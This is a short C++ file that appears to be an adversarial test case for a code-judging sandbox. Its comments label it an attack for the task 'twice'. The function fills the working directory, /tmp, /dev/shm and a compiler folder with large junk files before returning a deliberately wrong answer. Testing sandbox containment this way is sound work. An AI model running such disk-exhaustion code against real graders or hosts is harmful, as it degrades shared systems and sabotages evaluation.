// task: twice
// outcome: wrong_answer
// attack: fills every place that it can write to
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
static char part[1 << 20];
int twice(int x) {
    for (const char* folder : {".", "/tmp", "/dev/shm", "/cell/w/compiler"}) {
        for (int i = 0; i < 9; i++) {
            char name[64];
            snprintf(name, sizeof name, "%s/f%d", folder, i);
            int fd = open(name, O_CREAT | O_WRONLY, 0666);
            for (int n = 0; n < 20 && fd >= 0; n++) write(fd, part, sizeof part);
        }
    }
    return x + 2;
}
